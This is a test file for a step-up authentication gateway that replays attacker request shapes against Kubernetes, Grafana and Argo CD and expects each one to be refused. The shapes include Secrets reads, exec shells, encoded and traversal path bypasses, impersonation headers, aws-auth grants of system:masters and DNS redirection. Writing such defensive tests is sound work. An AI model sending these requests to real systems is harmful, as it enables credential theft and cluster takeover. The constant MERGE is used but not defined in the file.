import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/config/load.js';
import { startService, type Service } from '../../src/main.js';
import { createLogger } from '../../src/telemetry/log.js';
import { CheckClient, reasonOf } from '../support/grpc-client.js';
import { TestIssuer } from '../support/issuer.js';
import { checkRequest } from '../support/requests.js';
import { exampleYaml } from '../support/workday-service.js';

/**
 * The shapes an attacker tries to slip a sensitive request past the policy, black-box through the
 * real gRPC server with examples/stepgate.yaml as shipped: a stolen one-factor token signed in 10
 * hours ago (inside the example's 12-hour default, so anything the rules do not catch is allowed)
 * asks for Secrets, shells, tunnels, RBAC and control-plane changes in every spelling kube-apiserver
 * accepts (encoded, trailing slash, watch forms, HEAD, SPDY and WebSocket upgrades, the proxy
 * subresources, impersonation). None may be allowed. The controls, plain reads the same token may
 * do, are allowed, so the table cannot pass by refusing everything.
 */

let issuer: TestIssuer;
let service: Service;
let client: CheckClient;
let token: string;
let colleague: string;
let dashAttacker: string;
let dashColleague: string;
let weak: (sub: string) => Promise<string>;

beforeAll(async () => {
  issuer = await TestIssuer.start();
  service = await startService(parseConfig(exampleYaml(issuer.url), 'examples/stepgate.yaml'), {}, createLogger('silent'));
  client = new CheckClient(service.grpc.port);
  weak = (sub: string) => issuer.token({ sub, email: sub, acr: 'urn:stepgate:aal1', amr: ['pwd'], auth_time: Math.floor(Date.now() / 1000) - 10 * 3600 });
  token = await weak('mallory@example.com');
  // The controls use a token of the same kind for another subject: after the table above, the
  // attacker's own subject is refused outright (denial_rate reaches the critical band), as it should be.
  colleague = await weak('carol@example.com');
  dashAttacker = await weak('trent@example.com');
  dashColleague = await weak('dave@example.com');
});

afterAll(async () => {
  client?.close();
  await service?.stop();
  await issuer?.close();
});

const send = (method: string, path: string, headers: Record<string, string> = {}, host = 'kube.localhost', as = token) =>
  client.check(checkRequest({ host, method, path, token: as, source: '10.20.4.17', headers: { 'user-agent': 'kubectl/v1.32.4 (linux/amd64) kubernetes/5f8c2b1', ...headers } }));

const UPGRADE_WS = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'v5.channel.k8s.io' };
const UPGRADE_SPDY = { connection: 'Upgrade', upgrade: 'SPDY/3.1' };

const SENSITIVE: [string, string, Record<string, string>?, string?][] = [
  ['GET', '/api/v1/namespaces/prod-eu/secrets'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets/'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets/db'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets?watch=1'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets?watch=true&resourceVersion=0'],
  ['GET', '/api/v1/watch/namespaces/prod-eu/secrets'],
  ['GET', '/api/v1/secrets'],
  ['GET', '/api/v1/secrets?fieldSelector=metadata.namespace%3Dprod-eu'],
  ['GET', '/api/v1/watch/secrets'],
  ['GET', '/api/v1/namespaces/prod-eu/%73ecrets'],
  ['GET', '/api/v1/namespaces/prod-eu/secret%73/db'],
  ['GET', '/api/v1/namespaces/kube-system/secrets'],
  ['HEAD', '/api/v1/namespaces/prod-eu/secrets'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets', {}, 'KUBE.LOCALHOST'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets', {}, 'kube.localhost.'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets', {}, 'kube.localhost:6443'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets', { 'x-http-method-override': 'DELETE' }],
  ['POST', '/api/v1/namespaces/prod-eu/pods/web-0/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
  ['GET', '/api/v1/namespaces/prod-eu/pods/web-0/exec?command=sh&stdin=true&tty=true', UPGRADE_WS],
  ['GET', '/api/v1/namespaces/dev/pods/web-0/exec?command=sh'],
  ['POST', '/api/v1/namespaces/dev/pods/web-0/attach?stdin=true', UPGRADE_SPDY],
  ['POST', '/api/v1/namespaces/dev/pods/web-0/portforward', UPGRADE_SPDY],
  ['GET', '/api/v1/namespaces/dev/pods/web-0/portforward?ports=5432', UPGRADE_WS],
  ['PATCH', '/api/v1/namespaces/dev/pods/web-0/ephemeralcontainers', { 'content-type': 'application/strategic-merge-patch+json' }],
  ['GET', '/api/v1/namespaces/prod-eu/pods/web-0:9090/proxy/actuator/env'],
  ['GET', '/api/v1/namespaces/prod-eu/services/http:web:8080/proxy/debug/vars'],
  ['GET', '/api/v1/nodes/worker-1/proxy/runningpods/'],
  ['POST', '/api/v1/nodes/worker-1/proxy/run/kube-system/kube-proxy-x/kube-proxy?cmd=id'],
  ['POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', { 'content-type': 'application/json' }],
  ['PUT', '/apis/rbac.authorization.k8s.io/v1/namespaces/dev/rolebindings/edit', { 'content-type': 'application/json' }],
  ['POST', '/api/v1/namespaces/dev/serviceaccounts/default/token', { 'content-type': 'application/json' }],
  ['POST', '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations', { 'content-type': 'application/json' }],
  ['PUT', '/apis/certificates.k8s.io/v1/certificatesigningrequests/csr-1/approval', { 'content-type': 'application/json' }],
  ['DELETE', '/apis/apps/v1/namespaces/prod-eu/deployments/web'],
  ['DELETE', '/api/v1/namespaces/prod-eu/pods'],
  ['PATCH', '/apis/apps/v1/namespaces/prod-eu/deployments/web/scale', { 'content-type': 'application/merge-patch+json' }],
  ['DELETE', '/api/v1/namespaces/prod-eu'],
  ['GET', '/api/v1/namespaces/dev/pods', { 'impersonate-user': 'admin', 'impersonate-group': 'system:masters' }],
  ['GET', '/api/v1/namespaces/dev/configmaps', { 'impersonate-user': 'system:serviceaccount:kube-system:generic-garbage-collector' }],
  ['GET', '/api/v1/namespaces/dev/pods', { 'impersonate-user': 'system:admin' }],
  ['GET', '/api/v1/namespaces/dev/pods', { 'impersonate-user': 'system:bootstrap:abcdef', 'impersonate-group': 'system:bootstrappers' }],
];

const REFUSED_AS_MALFORMED: [string, string][] = [
  ['GET', '/api//v1/namespaces/prod-eu/secrets'],
  ['GET', '/api/v1/namespaces/prod-eu/configmaps/../secrets'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets/%2e%2e/pods'],
  ['GET', '/api/v1/namespaces/prod-eu%2Fsecrets'],
  ['GET', '/api/v1/namespaces/prod-eu\\secrets'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets#x'],
  ['GET', '/api/v1/namespaces/prod-eu/%2573ecrets'],
  ['GET', '/api/v1/namespaces/prod-eu/secrets;x'],
  // The root /proxy prefix: verb proxy on nodes or pods, no subresource (removed in kube 1.10).
  ['GET', '/api/v1/proxy/nodes/worker-1/runningpods/'],
  ['POST', '/api/v1/proxy/nodes/worker-1:10250/run/kube-system/kube-proxy-x/kube-proxy'],
  ['GET', '/api/v1/proxy/namespaces/prod-eu/pods/web-0:9090/actuator/env'],
  ['GET', '/api/v1/proxy/namespaces/prod-eu/services/http:web:8080/debug/vars'],
];

describe('examples/stepgate.yaml: a stolen one-factor token, signed in 10 hours ago', () => {
  it.each(SENSITIVE)('%s %s %o %s: not allowed', async (method, path, headers = {}, host = 'kube.localhost') => {
    const reason = reasonOf(await send(method, path, headers, host));
    expect(reason).not.toBe('allowed');
    expect(['acr_insufficient', 'auth_too_old', 'policy_deny', 'risk_deny']).toContain(reason);
  });

  it.each(REFUSED_AS_MALFORMED)('%s %s: refused as a request kube-apiserver would read differently', async (method, path) => {
    expect(reasonOf(await send(method, path))).toBe('request_invalid');
  });

  it.each([
    ['GET', '/api/v1/namespaces/dev/pods'],
    ['GET', '/apis/apps/v1/namespaces/dev/deployments?limit=500'],
    ['GET', '/api/v1/namespaces/dev/pods/web-0/log?tailLines=100'],
    ['GET', '/version'],
  ])('controls: %s %s is allowed for the same kind of token', async (method, path) => {
    expect(reasonOf(await send(method, path, {}, 'kube.localhost', colleague))).toBe('allowed');
  });

  it('and the attacker, after this many refusals, is refused outright even for a plain read', async () => {
    expect(reasonOf(await send('GET', '/api/v1/namespaces/dev/pods'))).toBe('risk_deny');
  });
});

// Repeated Impersonate-* headers reach stepgate joined with ',' (Envoy's CheckRequest), while
// kube-apiserver runs as the first Impersonate-User (headers.Get). A fresh subject per row, so each
// answer is the guardrail's and not the denial-rate signal's.
describe('examples/stepgate.yaml: impersonation headers as Envoy joins them', () => {
  const weakFor = (sub: string) => issuer.token({ sub, email: sub, acr: 'urn:stepgate:aal1', amr: ['pwd'], auth_time: Math.floor(Date.now() / 1000) - 600 });

  it.each([
    ['system:admin,bob', 'two Impersonate-User headers, system:admin first'],
    ['system:serviceaccount:kube-system:generic-garbage-collector,bob', 'a kube-system service account first'],
  ])('impersonate-user %s (%s) needs the step-up', async (user, _what) => {
    const as = await weakFor(`imp-${user.length}@example.com`);
    expect(reasonOf(await send('GET', '/api/v1/namespaces/dev/pods', { 'impersonate-user': user }, 'kube.localhost', as))).toBe('acr_insufficient');
  });

  it('control: impersonating another engineer is allowed, as the example means (impersonation off)', async () => {
    const as = await weakFor('imp-control@example.com');
    expect(reasonOf(await send('GET', '/api/v1/namespaces/dev/pods', { 'impersonate-user': 'bob@example.com' }, 'kube.localhost', as))).toBe('allowed');
  });
});

// The example's Grafana admin rule (`/admin/**`, `/api/admin/**`: two factors within 15 minutes)
// against the spellings path-confusion corpora try on a web upstream: case (IIS, .NET, Grafana's
// own front-end router), trailing dots and spaces (Windows), ';' parameters (`..;` is Tomcat's
// traversal), backslashes (IIS and browsers read them as '/'). A fresh attacker subject, so that
// each answer is the policy's and not the denial-rate signal's.
const BROWSER = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36', accept: 'application/json' };
const dash = (path: string, as: string) => send('GET', path, BROWSER, 'grafana.localhost', as);

describe('examples/stepgate.yaml: the dashboard admin paths, spelled every way', () => {
  it.each(['/admin/users', '/ADMIN/users', '/Admin/Users', '/api/ADMIN/users', '/api/Admin/settings', '/admin./users', '/admin%2E/users', '/admin%20/users', '/ADMIN', '/admin.', '/adm%C4%B1n/users', '/ADM%C4%B0N/users'])(
    '%s is asked for the step-up',
    async (path) => {
      expect(reasonOf(await dash(path, dashAttacker))).toBe('acr_insufficient');
    },
  );

  it.each(['/x/..;/admin/users', '/admin;jsessionid=1/users', '/api;/admin/users', '/api/admin%3B/users', '/admin\\users', '/%5cadmin/users', '/api%5Cadmin/users', '/%2561dmin/users', '/x/%252e%252e/admin/users', '/api%252Fadmin/users', '/admin%3F/users', '/admin%23/users'])(
    '%s is refused as a path upstreams read differently',
    async (path) => {
      expect(reasonOf(await dash(path, dashAttacker))).toBe('request_invalid');
    },
  );

  it.each<[string, Record<string, string>]>([
    ['/public/build/app.js', { 'x-original-url': '/admin/users' }],
    ['/d/abc/overview', { 'x-rewrite-url': '/api/admin/users' }],
    ['/api/dashboards/db', { 'x-http-method-override': 'DELETE' }],
    ['/api/dashboards/db', { 'x-method-override': 'delete' }],
  ])('%s with %o is refused: the header would choose the route', async (path, headers) => {
    expect(reasonOf(await send('POST', path, { ...BROWSER, ...headers }, 'grafana.localhost', dashAttacker))).toBe('request_invalid');
  });

  // Symfony and Laravel (for a POST) and Express's method-override with a query getter take the
  // method from `_method`; PHP reads `.` and a space in a parameter name as `_`.
  it.each(['?_method=DELETE', '?.method=DELETE', '?+method=delete', '?%5Fmethod=PUT', '?a=1&_method=PATCH', '?[method=DELETE', '?_method'])('POST /api/dashboards/uid/x%s is refused: the parameter would choose the method', async (query) => {
    expect(reasonOf(await send('POST', `/api/dashboards/uid/x${query}`, BROWSER, 'grafana.localhost', dashAttacker))).toBe('request_invalid');
  });

  // Grafana's API router trims a trailing '/' before it matches (pkg/web/tree.go), so these are the
  // password change and the service-account and API-key writes the grafana-credentials rule steps up.
  it.each<[string, string]>([
    ['PUT', '/api/user/password/'],
    ['PUT', '/API/user/password/'],
    ['PUT', '/api/user/password./'],
    ['POST', '/api/serviceaccounts/'],
    ['POST', '/api/auth/keys/'],
    ['POST', '/api/datasources/'],
  ])('%s %s (trailing slash) is asked for the step-up', async (method, path) => {
    expect(reasonOf(await send(method, path, BROWSER, 'grafana.localhost', dashAttacker))).toBe('acr_insufficient');
  });

  // What keeps a stolen Grafana session's access after it is gone, or runs code on the server:
  // the account's email changed (then its password reset), a user invited, a role or a folder's
  // permissions granted, a plugin installed or configured. A fresh subject per row.
  let grafanaRow = 0;
  it.each<[string, string]>([
    ['PUT', '/api/user'],
    ['POST', '/api/org/invites'],
    ['POST', '/api/access-control/users/7/roles'],
    ['POST', '/api/folders/ops/permissions'],
    ['POST', '/api/dashboards/uid/AbC123/permissions'],
    ['POST', '/api/plugins/grafana-exec-datasource/install'],
    ['POST', '/api/plugins/grafana-oncall-app/settings'],
    ['POST', '/api/dashboards/uid/AbC123/public-dashboards'],
    ['PATCH', '/api/dashboards/uid/AbC123/public-dashboards/9f2c'],
  ])('%s %s with one factor 10 hours old is asked for the step-up', async (method, path) => {
    const as = await weak(`grafana-${grafanaRow++}@example.com`);
    expect(reasonOf(await send(method, path, { ...BROWSER, 'content-type': 'application/json' }, 'grafana.localhost', as))).toBe('acr_insufficient');
  });

  it.each<[string, string]>([
    ['GET', '/api/user'],
    ['POST', '/api/dashboards/db'],
    ['GET', '/api/plugins/grafana-oncall-app/settings'],
  ])('controls: %s %s stays routine', async (method, path) => {
    const as = await weak(`grafana-${grafanaRow++}@example.com`);
    expect(reasonOf(await send(method, path, { ...BROWSER, 'content-type': 'application/json' }, 'grafana.localhost', as))).toBe('allowed');
  });

  // Argo CD acts with its own (cluster-admin) rights: its web terminal is an exec, deleting an
  // application deletes what it manages, and its projects, clusters, repositories and tokens are
  // who may deploy what where. REST (the UI) and gRPC (the CLI) spellings. A fresh subject per row.
  let argoRow = 0;
  it.each<[string, string, Record<string, string>?]>([
    ['GET', '/terminal?pod=payments-api-7d9f&container=api&appName=payments-prod&appNamespace=argocd&projectName=default&namespace=prod-payments', { connection: 'Upgrade', upgrade: 'websocket' }],
    ['DELETE', '/api/v1/applications/payments-prod?cascade=true'],
    ['DELETE', '/api/v1/applications/payments-prod/resource?name=payments-api&namespace=prod-payments&resourceName=payments-api&version=v1&kind=Deployment&group=apps'],
    ['POST', '/api/v1/applications/payments-prod/resource/actions?namespace=prod-payments&resourceName=payments-api&version=v1&kind=Deployment&group=apps'],
    ['POST', '/api/v1/applications/payments-prod/resource?namespace=prod-payments&resourceName=payments-api&version=v1&kind=Deployment&group=apps&patchType=application/merge-patch%2Bjson'],
    ['POST', '/api/v1/applications/payments-prod/rollback'],
    ['PUT', '/api/v1/applications/payments-prod/spec'],
    ['POST', '/api/v1/applications'],
    ['POST', '/application.ApplicationService/Delete', { 'content-type': 'application/grpc' }],
    ['POST', '/api/v1/account/alice/token'],
    ['PUT', '/api/v1/account/password'],
    ['POST', '/api/v1/projects/default/roles/ci/token'],
    ['PUT', '/api/v1/projects/default'],
    ['POST', '/api/v1/clusters'],
    ['POST', '/api/v1/repositories'],
    ['POST', '/account.AccountService/CreateToken', { 'content-type': 'application/grpc' }],
    ['POST', '/project.ProjectService/Update', { 'content-type': 'application/grpc' }],
  ])('Argo CD: %s %s with one factor 10 hours old is asked for the step-up', async (method, path, headers = {}) => {
    const as = await weak(`argo-${argoRow++}@example.com`);
    expect(reasonOf(await send(method, path, { ...BROWSER, 'content-type': 'application/json', ...headers }, 'argocd.localhost', as))).toBe('acr_insufficient');
  });

  it.each<[string, string, Record<string, string>?]>([
    ['GET', '/api/v1/applications?projects=payments'],
    ['GET', '/api/v1/applications/payments-prod/resource-tree'],
    ['GET', '/api/v1/applications/payments-prod/resource?name=payments-api&namespace=prod-payments&resourceName=payments-api&version=v1&kind=Deployment&group=apps'],
    ['POST', '/api/v1/applications/payments-staging/sync'],
    ['DELETE', '/api/v1/applications/payments-staging/operation'],
    ['GET', '/api/v1/applications/payments-prod/pods/payments-api-7d9f/logs?namespace=prod-payments&container=api&follow=true'],
    ['POST', '/application.ApplicationService/Sync', { 'content-type': 'application/grpc' }],
    ['POST', '/application.ApplicationService/List', { 'content-type': 'application/grpc' }],
    ['POST', '/project.ProjectService/List', { 'content-type': 'application/grpc' }],
  ])('Argo CD controls: %s %s stays routine', async (method, path, headers = {}) => {
    const as = await weak(`argo-${argoRow++}@example.com`);
    expect(reasonOf(await send(method, path, { ...BROWSER, 'content-type': 'application/json', ...headers }, 'argocd.localhost', as))).toBe('allowed');
  });

  // kubernetes.web_apis api argo-cd: the object-level methods over gRPC carry their target in a
  // protobuf body; without it (no with_request_body) there is nothing to judge
  // (attack-session44-argocd.test.ts has the rest, bodies read and malformed).
  it('Argo CD: DeleteResource over gRPC-web without its body is refused as request_invalid', async () => {
    const as = await weak(`argo-${argoRow++}@example.com`);
    expect(reasonOf(await send('POST', '/application.ApplicationService/DeleteResource', { ...BROWSER, 'content-type': 'application/grpc-web+proto' }, 'argocd.localhost', as))).toBe('request_invalid');
  });

  it.each(['/d/AbC123/Service-Overview', '/api/dashboards/uid/AbC123', '/api/search?query=Admin', '/api/search?sort=method&_methods=x', '/api/search?_method=GET', '/public/build/app.js'])('controls: %s is allowed', async (path) => {
    expect(reasonOf(await dash(path, dashColleague))).toBe('allowed');
  });
});

// Shapes that read as something milder on the request line than what kube-apiserver does with
// them. Each row is sent by a fresh subject, so the answer is the policy's own and not the
// denial-rate signal's after the rows before it.
const SSA = { 'content-type': 'application/apply-patch+yaml' };
const manifest = (apiVersion: string, kind: string, ns: string, name: string) =>
  JSON.stringify({ apiVersion, kind, metadata: { name, namespace: ns }, spec: kind === 'Pod' ? { containers: [{ name: 'c', image: 'busybox:1.36' }] } : { selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { containers: [{ name: 'c', image: 'busybox:1.36' }] } } } });
let fresh = 0;
const freshSend = async (level: 'aal1' | 'aal2' | 'aal3', ageHours: number, method: string, path: string, headers: Record<string, string>, body?: string, host = 'kube.localhost') => {
  const sub = `shape-${++fresh}@example.com`;
  const amr = { aal1: ['pwd'], aal2: ['mfa'], aal3: ['hwk', 'mfa'] }[level];
  const as = await issuer.token({ sub, email: sub, acr: `urn:stepgate:${level}`, amr, auth_time: Math.floor(Date.now() / 1000) - ageHours * 3600 });
  return client.check(checkRequest({ host, method, path, token: as, source: '10.20.4.17', body, headers: { 'user-agent': 'kubectl/v1.32.4 (linux/amd64) kubernetes/5f8c2b1', ...headers } }));
};

describe('examples/stepgate.yaml: what the request line does not say', () => {
  // Server-side apply (PATCH, application/apply-patch+yaml) creates the object when it does not
  // exist: kube authorizes it as `patch`, then as `create` before it creates. A rule about creating
  // pods or DaemonSets is stepped around by applying them instead, unless stepgate asks both.
  it.each<[string, 'aal1' | 'aal2', number, string, Record<string, string>, string | undefined]>([
    ['a Pod applied into default (kubectl debug node/… as an apply)', 'aal1', 10, '/api/v1/namespaces/default/pods/node-debugger?fieldManager=kubectl', SSA, manifest('v1', 'Pod', 'default', 'node-debugger')],
    ['a DaemonSet applied into dev', 'aal1', 10, '/apis/apps/v1/namespaces/dev/daemonsets/agent?fieldManager=kubectl&force=true', { 'content-type': 'application/apply-patch+yaml; charset=utf-8' }, manifest('apps/v1', 'DaemonSet', 'dev', 'agent')],
    ['a DaemonSet applied into kube-system with two factors 11 hours old', 'aal2', 11, '/apis/apps/v1/namespaces/kube-system/daemonsets/agent?fieldManager=kubectl', SSA, manifest('apps/v1', 'DaemonSet', 'kube-system', 'agent')],
    ['a Deployment applied into kube-system, as CBOR, with two factors 11 hours old', 'aal2', 11, '/apis/apps/v1/namespaces/kube-system/deployments/x?fieldManager=kubectl', { 'content-type': 'application/apply-patch+cbor' }, undefined],
  ])('PATCH as server-side apply: %s is not allowed', async (_what, level, age, path, headers, body) => {
    expect(reasonOf(await freshSend(level, age, 'PATCH', path, headers, body))).not.toBe('allowed');
  });

  // Two Impersonate-User headers reach stepgate joined by Envoy ("system:admin,bob"); kube runs
  // the request as the first.
  it.each(['system:admin,bob', 'kubernetes-admin, bob@example.com'])('Impersonate-User %s (two headers joined) is not allowed', async (user) => {
    expect(reasonOf(await freshSend('aal1', 10, 'GET', '/api/v1/namespaces/dev/pods', { 'impersonate-user': user }))).not.toBe('allowed');
  });

  // The operators' service accounts the example names (Argo CD's controller is cluster-admin in a
  // default install): running as them is impersonation_privileged, like kube-system's.
  it.each<Record<string, string>>([
    { 'impersonate-user': 'system:serviceaccount:argocd:argocd-application-controller' },
    { 'impersonate-user': 'system:serviceaccount:flux-system:kustomize-controller' },
    { 'impersonate-user': 'system:serviceaccount:istio-system:istiod' },
    { 'impersonate-user': 'bob@example.com', 'impersonate-group': 'system:serviceaccounts:cert-manager' },
  ])('impersonating an operator %o is not allowed', async (headers) => {
    const res = await freshSend('aal1', 10, 'GET', '/api/v1/namespaces/dev/pods', headers);
    expect(reasonOf(res)).not.toBe('allowed');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('guardrail:impersonation_privileged');
  });

  it('control: impersonating a service account of an ordinary namespace stays routine', async () => {
    expect(reasonOf(await freshSend('aal1', 10, 'GET', '/api/v1/namespaces/dev/pods', { 'impersonate-user': 'system:serviceaccount:dev:web' }))).toBe('allowed');
  });

  // coredns scaled to zero is the cluster's DNS gone; a drain's eviction in kube-system is routine.
  it('scaling a kube-system Deployment with one factor 10 hours old is not allowed; evicting its pod is', async () => {
    expect(reasonOf(await freshSend('aal1', 10, 'PATCH', '/apis/apps/v1/namespaces/kube-system/deployments/coredns/scale', MERGE, '{"spec":{"replicas":0}}'))).toBe('acr_insufficient');
    expect(reasonOf(await freshSend('aal1', 10, 'POST', '/api/v1/namespaces/kube-system/pods/coredns-6d4b75cb6d-x2x9q/eviction', { 'content-type': 'application/json' }, '{"apiVersion":"policy/v1","kind":"Eviction","metadata":{"name":"coredns-6d4b75cb6d-x2x9q","namespace":"kube-system"}}'))).toBe('allowed');
  });

  // What a hardware key (aal3) is asked for beyond RBAC, with two factors 2 hours old. A body is
  // sent only where the row gives one.
  it.each<[string, string, string?]>([
    // The admission policy engine turned off before the privileged pod it would refuse
    // (guardrail admission_config_change knows Kyverno and Gatekeeper).
    ['DELETE', '/apis/kyverno.io/v1/clusterpolicies/disallow-privileged-containers'],
    ['POST', '/apis/kyverno.io/v2/namespaces/dev/policyexceptions'],
    ['DELETE', '/apis/constraints.gatekeeper.sh/v1beta1/k8spspprivilegedcontainer/psp-privileged-container'],
    // Cluster-wide classes and API priority: each decides how every pod or request that names it runs.
    ['POST', '/apis/flowcontrol.apiserver.k8s.io/v1/flowschemas'],
    ['PATCH', '/apis/flowcontrol.apiserver.k8s.io/v1/prioritylevelconfigurations/workload-low'],
    ['POST', '/apis/scheduling.k8s.io/v1/priorityclasses'],
    ['POST', '/apis/node.k8s.io/v1/runtimeclasses'],
    ['PATCH', '/apis/storage.k8s.io/v1/storageclasses/standard'],
    ['PUT', '/apis/networking.k8s.io/v1/ingressclasses/nginx'],
    ['POST', '/apis/storage.k8s.io/v1/csidrivers'],
    // A CA that every pod projecting the bundle for its signer trusts.
    ['POST', '/apis/certificates.k8s.io/v1beta1/clustertrustbundles'],
    ['DELETE', '/apis/storage.k8s.io/v1/volumeattachments/csi-3f9a'],
    // The API server's debugging endpoints: its node's logs, profiles, and a log level at which it
    // logs request bodies (Secrets included); /metrics stays ordinary (the control below).
    ['GET', '/logs/kube-apiserver.log'],
    ['GET', '/logs/'],
    ['GET', '/debug/pprof/profile?seconds=30'],
    ['PUT', '/debug/flags/v', '10'],
    // Trust kept as ConfigMaps: EKS's IAM-to-group map, the aggregated APIs' client CA, the
    // cluster's DNS, the API server a joining node trusts; a create as much as a patch.
    ['PATCH', '/api/v1/namespaces/kube-system/configmaps/aws-auth', '{"data":{"mapRoles":"- rolearn: arn:aws:iam::111122223333:role/x\\n  groups: [system:masters]\\n"}}'],
    ['POST', '/api/v1/namespaces/kube-system/configmaps', '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"aws-auth","namespace":"kube-system"},"data":{}}'],
    ['PUT', '/api/v1/namespaces/kube-system/configmaps/extension-apiserver-authentication', '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"extension-apiserver-authentication","namespace":"kube-system"},"data":{}}'],
    ['PATCH', '/api/v1/namespaces/kube-system/configmaps/coredns', '{"data":{"Corefile":".:53 { forward . 203.0.113.53 }"}}'],
    ['DELETE', '/api/v1/namespaces/kube-public/configmaps/cluster-info'],
  ])('%s %s with two factors 2 hours old is not allowed', async (method, path, body) => {
    const contentType = path.startsWith('/api') ? (method === 'PATCH' ? 'application/merge-patch+json' : 'application/json') : 'text/plain';
    expect(reasonOf(await freshSend('aal2', 2, method, path, { 'content-type': contentType }, body))).toBe('acr_insufficient');
  });

  it('controls: reading kube-system ConfigMaps, and writing one in dev, with one factor 10 hours old are allowed', async () => {
    expect(reasonOf(await freshSend('aal1', 10, 'GET', '/api/v1/namespaces/kube-system/configmaps/coredns', {}))).toBe('allowed');
    expect(reasonOf(await freshSend('aal1', 10, 'GET', '/api/v1/namespaces/kube-public/configmaps/cluster-info', {}))).toBe('allowed');
    expect(reasonOf(await freshSend('aal1', 10, 'PATCH', '/api/v1/namespaces/dev/configmaps/web', MERGE, '{"data":{"LOG_LEVEL":"debug"}}'))).toBe('allowed');
  });

  // Headlamp passes the API through under /clusters/<name>/ (kubernetes.proxies): the kube rules
  // apply to what follows the prefix, read as strictly as on the API server's own host.
  let headlampRow = 0;
  it.each<[string, string, string]>([
    ['GET', '/clusters/main/api/v1/namespaces/prod-eu/secrets', 'acr_insufficient'],
    ['GET', '/clusters/main/api/v1/namespaces/prod-eu/secrets/db', 'acr_insufficient'],
    ['GET', '/clusters/staging/api/v1/secrets', 'acr_insufficient'],
    ['POST', '/clusters/main/api/v1/namespaces/dev/pods/web-0/exec?command=sh&stdin=true', 'acr_insufficient'],
    ['DELETE', '/clusters/main/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/admins', 'acr_insufficient'],
    ['GET', '/clusters/main/api/v1/namespaces/prod-eu/%73ecrets', 'acr_insufficient'],
    ['GET', '/clusters/main/api/v1/namespaces//secrets', 'request_invalid'],
    ['GET', '/clusters/main/api/v1/namespaces/dev/../prod-eu/secrets', 'request_invalid'],
    ['GET', '/clusters/main/api/v1/namespaces/prod-eu%2Fsecrets', 'request_invalid'],
    ['GET', '/clusters/main/api/v1/namespaces/dev/pods', 'allowed'],
    ['GET', '/clusters/main/version', 'allowed'],
    ['GET', '/static/js/main.4f2a.js', 'allowed'],
    ['GET', '/c/main/secrets', 'allowed'],
  ])('Headlamp: %s %s with one factor 10 hours old is %s', async (method, path, reason) => {
    const as = await weak(`headlamp-${headlampRow++}@example.com`);
    expect(reasonOf(await send(method, path, BROWSER, 'headlamp.localhost', as))).toBe(reason);
  });

  it('control: GET /metrics with one factor 10 hours old is allowed', async () => {
    expect(reasonOf(await freshSend('aal1', 10, 'GET', '/metrics', {}))).toBe('allowed');
  });

  // A Node delete takes every pod on it. A patch of the Node (a cordon; a NoExecute taint is read
  // from the body, below) asks what a production write asks (node-changes): two factors within 8
  // hours, which a drain's evictions of production pods ask anyway.
  it('DELETE a Node with one factor 10 hours old is not allowed, nor a cordon; a cordon with two factors 2 hours old is', async () => {
    expect(reasonOf(await freshSend('aal1', 10, 'DELETE', '/api/v1/nodes/worker-1', {}))).toBe('acr_insufficient');
    expect(reasonOf(await freshSend('aal1', 10, 'PATCH', '/api/v1/nodes/worker-1', MERGE, '{"spec":{"unschedulable":true}}'))).toBe('acr_insufficient');
    expect(reasonOf(await freshSend('aal2', 2, 'PATCH', '/api/v1/nodes/worker-1', MERGE, '{"spec":{"unschedulable":true}}'))).toBe('allowed');
  });

  // A route tag the operator mistyped would leave a Secrets list to the host list: refused instead.
  it.each(['TRUE', 'True', 'yes', '1', ''])('a Secrets list on a route tagged stepgate.kubernetes: %o is refused', async (tag) => {
    const sub = `tag-${tag}@example.com`;
    const as = await issuer.token({ sub, email: sub, acr: 'urn:stepgate:aal1', amr: ['pwd'], auth_time: Math.floor(Date.now() / 1000) - 10 * 3600 });
    const res = await client.check(checkRequest({ host: '10.96.0.1:443', path: '/api/v1/namespaces/prod-eu/secrets', token: as, source: '10.20.4.17', context: { 'stepgate.kubernetes': tag } }));
    expect(reasonOf(res)).toBe('request_invalid');
  });

  // The API server's in-cluster names, which the example's "kubernetes.*" is there for.
  it.each(['kubernetes', 'kubernetes.default', 'kubernetes.default.svc', 'kubernetes.default.svc.cluster.local', 'kubernetes.default.svc:443'])('a Secrets list sent to host %s is not allowed', async (host) => {
    expect(reasonOf(await freshSend('aal1', 10, 'GET', '/api/v1/namespaces/prod-eu/secrets', {}, undefined, host))).not.toBe('allowed');
  });

  it.each<[string, 'aal1' | 'aal2', number, string, Record<string, string>, string | undefined]>([
    ['a Deployment applied into dev', 'aal1', 10, '/apis/apps/v1/namespaces/dev/deployments/web?fieldManager=kubectl', SSA, manifest('apps/v1', 'Deployment', 'dev', 'web')],
    ['a strategic-merge patch of a kube-system Deployment with two factors 11 hours old', 'aal2', 11, '/apis/apps/v1/namespaces/kube-system/deployments/coredns', { 'content-type': 'application/strategic-merge-patch+json' }, '{"spec":{"template":{"spec":{"containers":[{"name":"coredns","image":"registry.k8s.io/coredns/coredns:v1.11.3"}]}}}}'],
    ['a merge patch of a Pod in dev (labels)', 'aal1', 10, '/api/v1/namespaces/dev/pods/web-0', { 'content-type': 'application/merge-patch+json' }, '{"metadata":{"labels":{"debug":"true"}}}'],
  ])('controls: PATCH %s is allowed', async (_what, level, age, path, headers, body) => {
    expect(reasonOf(await freshSend(level, age, 'PATCH', path, headers, body))).toBe('allowed');
  });
});

